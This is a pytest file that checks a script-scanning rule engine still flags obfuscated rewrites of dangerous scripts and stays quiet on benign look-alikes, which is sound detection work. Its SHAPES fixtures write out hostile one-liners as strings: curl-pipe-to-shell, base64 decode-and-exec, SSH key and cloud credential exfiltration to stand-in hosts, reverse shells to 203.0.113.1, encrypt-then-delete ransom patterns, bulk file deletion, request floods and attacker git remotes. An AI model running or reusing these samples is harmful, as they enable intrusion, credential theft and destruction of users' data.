"""Evasion set: each dangerous shape rewritten (alias, helper function, split string, variable
indirection) is still caught; look-alike benign scripts are not."""
from __future__ import annotations

import pytest

from script_helpers import script_rules

SHAPES = {
    "remote-exec": ("IG701", [
        ("alias.py", "import urllib.request as r\nimport builtins as b\nb.exec(r.urlopen('https://x.example/a').read())\n"),
        ("helper.py", "import requests\ndef grab(u):\n    return requests.get(u).text\ndef run(c):\n    exec(c)\nrun(grab('https://x.example/p'))\n"),
        ("split.py", "import os\nf = getattr(os, 'po' + 'pen')\nf('cu' + 'rl -s https://x.example/a | ba' + 'sh')\n"),
        ("indirect.sh", "fetch=curl\nsrc='https://x.example/i'\nrunner=bash\n$fetch -fsSL \"$src\" | $runner\n"),
        ("indirect2.sh", "out=$(wget -qO- https://x.example/p)\nbash -c \"$out\"\n"),
        ("alias.js", "const { execSync: go } = require('child_process');\ngo('curl -s https://x.example/a | sh');\n"),
    ]),
    "decode-exec": ("IG702", [
        ("alias.py", "from base64 import b64decode as d\nimport builtins\nbuiltins.eval(d('cHJpbnQoMSk='))\n"),
        ("helper.py", "import codecs\ndef unwrap(s):\n    return codecs.decode(s, 'rot13')\nexec(unwrap('cevag(1)'))\n"),
        ("indirect.py", "import base64\nblob = 'cHJpbnQoMSk='\nraw = base64.b64decode(blob)\ncode = raw.decode()\nexec(code)\n"),
        ("indirect.sh", "p=$(echo ZWNobyBoaQ== | base64 -d)\neval \"$p\"\n"),
        ("split.js", "const s = Buffer.from(x, 'bas' + 'e64').toString();\neval(s);\n"),
    ]),
    "credential-exfil": ("IG703", [
        ("alias.py", "import os\nimport requests as rq\nrq.post('https://c.example', data=open(os.path.expanduser('~/.aws/credentials')).read())\n"),
        ("helper.py", "import os, urllib.request\ndef tok():\n    return os.getenv('GITHUB_TOKEN')\ndef up(x):\n    urllib.request.urlopen('https://c.example/?d=' + x)\nup(tok())\n"),
        ("split.py", "import os, requests\np = os.path.expanduser('~/' + '.ss' + 'h/id_rsa')\nrequests.put('https://c.example/k', data=open(p).read())\n"),
        ("indirect.sh", "f=$HOME/.ssh/id_rsa\ncurl -s --data-binary @$f https://c.example/k\n"),
        ("container.py", "import os, requests\nloot = []\nloot.append(os.environ['AWS_SECRET_ACCESS_KEY'])\nrequests.post('https://c.example', json=loot)\n"),
    ]),
    "reverse-shell": ("IG704", [
        ("alias.py", "import socket as so, os as o, pty as p\nc = so.socket()\nc.connect(('203.0.113.1', 4444))\no.dup2(c.fileno(), 0)\np.spawn('/bin/sh')\n"),
        ("helper.py", "import socket, subprocess\ndef link():\n    s = socket.create_connection(('203.0.113.1', 4444))\n    return s\nk = link()\nsubprocess.Popen(['/bin/sh', '-i'], stdin=k.fileno(), stdout=k.fileno())\ns2 = socket.socket()\ns2.connect(('203.0.113.1', 1))\n"),
        ("indirect.sh", "h=203.0.113.1\np=4444\nbash -i >& /dev/tcp/$h/$p 0>&1\n"),
        ("nc.sh", "n=nc\n$n -e /bin/bash 203.0.113.1 4444\n"),
    ]),
    # What a script does to the user's data (IG740-IG743, IG722 for shell, IG713, IG703 for token-read JS).
    "ransom-lock": ("IG740", [
        ("alias.py", "import pyzipper as pz, os as o\ndef lock(src):\n    with pz.AESZipFile('l.zip', 'w') as z:\n        z.setpassword(b'k')\n"
                     "        z.write(src)\n    o.remove(src)\n"),
        ("helper.py", "import os, zipfile\ndef pack(p):\n    with zipfile.ZipFile('x.zip', 'w') as z:\n        z.setpassword(b'k')\n        z.write(p)\n"
                      "def wipe(p):\n    os.unlink(p)\ndef run(f):\n    pack(f)\n    wipe(f)\n"),
        ("split.sh", 'Z=zi\n${Z}p -P "$PW" out.zip "$1"\nrm -f "$1"\n'),
        ("indirect.sh", 'f="$1"\ntarget=$f\n7z a -p"$PW" vault.7z "$target"\nrm "$target"\n'),
        ("move.sh", 'zip -m -P secret locked.zip report.docx\n'),
    ]),
    "user-data-deletion": ("IG741", [
        ("indirect.sh", "pat='*.ics'\nfind \"$HOME\" -name \"$pat\" -delete\n"),
        ("exec.sh", "find ~/Documents -iname '*.docx' -exec rm -f {} \\;\n"),
        ("helper.py", "import glob, os\ndef targets():\n    return glob.glob('*.vcf')\nfor f in targets():\n    os.remove(f)\n"),
        ("filter.py", "import os\nfor name in os.listdir('.'):\n    if name.endswith(('.eml', '.mbox')):\n        os.remove(name)\n"),
        ("alias.py", "from pathlib import Path as P\nfor x in P.home().rglob('*calendar*'):\n    x.unlink()\n"),
    ]),
    "personal-data-harvest": ("IG742", [
        ("from.py", "from CoreLocation import CLLocationManager as M\nm = M.alloc().init()\n"),
        ("watch.ps1", "Add-Type -AssemblyName System.Device\n$w = New-Object System.Device.Location.GeoCoordinateWatcher\n$w.Start()\n"),
        ("imap.py", "import imaplib, re\nm = imaplib.IMAP4_SSL(h)\nm.select('INBOX')\ntyp, ids = m.search(None, 'ALL')\nADDR = re.compile(r'[\\w.-]+@[\\w.-]+')\n"),
        ("heredoc.sh", "cat > q.mjs <<'JS'\nconst r = await gmail.users.messages.list({userId: 'me'});\nconst re = /[A-Z0-9._%+-]+@[A-Z0-9.-]+/gi;\nJS\nnode q.mjs\n"),
    ]),
    "request-flood": ("IG722", [
        ("cstyle.sh", "for ((;;)); do wget -q -O- http://x.example/; done\n"),
        ("until.sh", "until false; do\n  curl -s https://x.example/a >/dev/null\ndone\n"),
        ("helper.sh", "hit() { curl -s \"$U\"; }\nwhile true; do\n  hit\ndone\n"),
        ("indirect.sh", "c=curl\nwhile :; do $c -s https://x.example/; done\n"),
    ]),
    "git-remote-sink": ("IG713", [
        ("indirect.sh", "u=https://evil.example/r.git\ngit remote add backup \"$u\"\n"),
        ("ssh.sh", "git remote set-url origin git@evil.example:x/y.git\n"),
        ("alias.sh", "g=git\n$g remote add mirror https://evil.example/m.git\n$g push mirror --all\n"),
    ]),
    "env-harvest-to-command": ("IG703", [
        ("alias.js", "const { execSync: run } = require('child_process');\nfor (const [k, v] of Object.entries(process.env)) run(`curl https://x.example/?${k}=${v}`);\n"),
        ("split.js", "const { exec: go } = require('child_process');\nconst p = ['cu', 'rl ', 'htt', 'ps://', 'x.example'];\nconst base = p.join('');\n"
                     "const loot = Object.entries(process.env);\nfor (const [k, v] of loot) {\n  const cmd = `${base}/?v=${v}`;\n  go(cmd, () => {});\n}\n"),
        ("indirect.js", "const { exec } = require('child_process');\nconst names = Object.keys(process.env).filter(k => /token/i.test(k));\n"
                        "for (const k of names) {\n  const cmd = 'wget -q https://x.example/?d=' + k;\n  exec(cmd);\n}\n"),
    ]),
}

LOOKALIKES = [
    ("fetch_json.py", "import requests\ndata = requests.get('https://api.example.com/items').json()\nprint(len(data))\n"),
    ("decode_img.py", "import base64\nwith open('out.png', 'wb') as f:\n    f.write(base64.b64decode(PNG))\n"),
    ("eval_literal.py", "import ast\nvalue = ast.literal_eval(open('cfg.txt').read())\n"),
    ("auth_header.py", "import os, requests\nrequests.get('https://api.github.com/user', headers={'Authorization': 'token ' + os.environ['GITHUB_TOKEN']})\n"),
    ("local_socket.py", "import socket\ns = socket.socket()\ns.bind(('127.0.0.1', 8080))\ns.listen()\n"),
    ("installer.sh", "curl -fsSLo node.tgz https://nodejs.org/dist/v20.0.0/node.tgz\ntar xzf node.tgz\n"),
    ("agent.sh", 'eval "$(ssh-agent -s)"\nssh-add ~/.ssh/id_ed25519\n'),
    ("decode_cert.sh", 'echo "$CERT_B64" | base64 -d > cert.pem\n'),
    ("fetch.js", "const res = await fetch('https://api.example.com');\nconst body = await res.json();\nconsole.log(body);\n"),
]

# User-data look-alikes: backups that keep their originals, build cleanups, unpacking a protected
# archive, health polls, contributor remotes. None may draw the user-data shapes' rules (a bulk
# delete may still draw IG714's low-confidence note, which is a different rule's business).
USER_DATA_RULES = {"IG740", "IG741", "IG742", "IG743", "IG722", "IG713", "IG703"}
USER_DATA_LOOKALIKES = [
    ("backup.sh", "zip -r backup.zip docs/\nrm -rf build/ dist/\n"),
    ("encrypt_copy.sh", "gpg -c notes.txt\nrm -f /tmp/scratch\n"),
    ("unpack.py", "import os, zipfile\ndef unpack(a, pw):\n    with zipfile.ZipFile(a) as z:\n        z.setpassword(pw)\n        z.extractall('out')\n    os.remove(a)\n"),
    ("clean.sh", "find . -name '*.pyc' -delete\nrm -f *.log\n"),
    ("clean.py", "from pathlib import Path\nfor f in Path('build').glob('*.o'):\n    f.unlink()\n"),
    ("read_cal.py", "from pathlib import Path\nfor f in Path('.').glob('*.ics'):\n    print(f.read_text())\n"),
    ("poll.sh", "while true; do\n  curl -sf http://localhost:8080/health && break\n  sleep 2\ndone\n"),
    ("spin.sh", "while true; do\n  make test\ndone\n"),
    ("upstream.sh", "git remote add upstream https://github.com/o/r.git\ngit fetch upstream\n"),
    ("remote_arg.sh", 'git remote add origin "$1"\ngit push -u origin main\n'),
    ("validate.py", "import re\nEMAIL = re.compile(r'[\\w.+-]+@[\\w-]+\\.[\\w.]+')\nprint(bool(EMAIL.match(input())))\n"),
    ("env_child.js", "const { exec } = require('child_process');\nexec('curl -s https://api.example.com', { env: { ...process.env, X: '1' } });\n"),
    ("files.js", "const { exec } = require('child_process');\nfor (const f of files) exec(`curl -O https://x.example/${f}`);\n"),
]


@pytest.mark.parametrize("shape", sorted(SHAPES))
def test_each_shape_has_at_least_three_rewrites_all_caught(shape):
    rule_id, variants = SHAPES[shape]
    assert len(variants) >= 3
    missed = [path for path, text in variants if rule_id not in script_rules(path, text)]
    assert missed == []


@pytest.mark.parametrize("path,text", LOOKALIKES)
def test_lookalikes_stay_quiet(path, text):
    assert script_rules(path, text) == set()


@pytest.mark.parametrize("path,text", USER_DATA_LOOKALIKES)
def test_user_data_lookalikes_stay_quiet(path, text):
    assert script_rules(path, text) & USER_DATA_RULES == set()
